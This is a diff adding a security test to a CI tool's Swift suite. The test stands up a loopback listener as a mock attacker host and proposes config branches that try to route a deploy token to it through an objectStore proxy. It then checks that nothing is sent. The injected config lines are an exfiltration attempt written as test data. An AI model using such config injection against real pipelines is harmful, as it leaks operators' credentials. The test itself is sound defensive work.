@@ -174,6 +174,42 @@ import Testing
         #expect(review.output.contains("no node observed"))
     }
 
+    @Test func aProposedChangeCannotSendCredentialsToAHostOfItsChoosing() throws {
+        let world = try World()
+        // The "attacker's" host: a listener on loopback that writes down every request it gets.
+        let port = try LoopbackSSHD.freePort(address: "127.0.0.1")
+        let requests = world.state.file("requests.log")
+        let listener = try Command.start(["python3", "-c", """
+            import http.server, sys
+            class H(http.server.BaseHTTPRequestHandler):
+                def do_GET(self):
+                    open(sys.argv[2], 'a').write(self.path + ' ' + repr(dict(self.headers)) + '\\n'); self.send_response(401); self.end_headers()
+                do_PUT = do_POST = do_HEAD = do_GET
+                def log_message(self, *a): pass
+            http.server.HTTPServer(('127.0.0.1', int(sys.argv[1])), H).serve_forever()
+            """, "\(port)", requests])
+        defer { Command.stop(listener) }
+        usleep(300_000)
+        let secrets = ["CI_DEPLOY_TOKEN=tok-deploy-123", "STACKLAB_SWIFT_KEY=swift-key-456"]
+        let proxy = "http://127.0.0.1:\(port)"
+        // A key from any variable, and the operator's own Swift key with only the proxy changed.
+        try world.branch("exfil", file: "regions/lab/region.yaml", append: "  objectStore: {proxy: \"\(proxy)\", user: \"x:y\", keyEnv: CI_DEPLOY_TOKEN}\n")
+        try world.branch("proxy-only", file: "regions/lab/region.yaml", append: "  objectStore: {proxy: \"\(proxy)\", user: \"x:y\"}\n")
+        for change in ["exfil", "proxy-only"] {
+            let check = try world.stacklab(["ci", "check", "--change", change], environment: secrets)
+            #expect(check.output.contains("note: region lab: objectStore none → \(proxy) as x:y with $") && check.output.contains("takes effect after merge"),
+                    "\(check.output)")
+            _ = try world.gate([change], environment: secrets)
+        }
+        #expect(!FileManager.default.fileExists(atPath: requests), "no request reached the proposed host: \((try? String(contentsOfFile: requests, encoding: .utf8)) ?? "")")
+
+        // Merged (trusted), a key is still taken only from a variable the operator lists.
+        try GitCLI.run(["merge", "-q", "exfil"], in: world.repo.path)
+        let plan = try world.stacklab(["plan"], environment: secrets)
+        #expect(plan.output.contains("takes its key from $CI_DEPLOY_TOKEN, which is not a credential variable"), "\(plan.output.suffix(800))")
+        #expect(!FileManager.default.fileExists(atPath: requests), "still nothing sent")
+    }
+
     @Test func aProposedCommitsAuthorAndSummaryAreShownNeverObeyed() throws {
         let world = try World()
         try GitCLI.run(["checkout", "-q", "-b", "forged", "main"], in: world.repo.path)
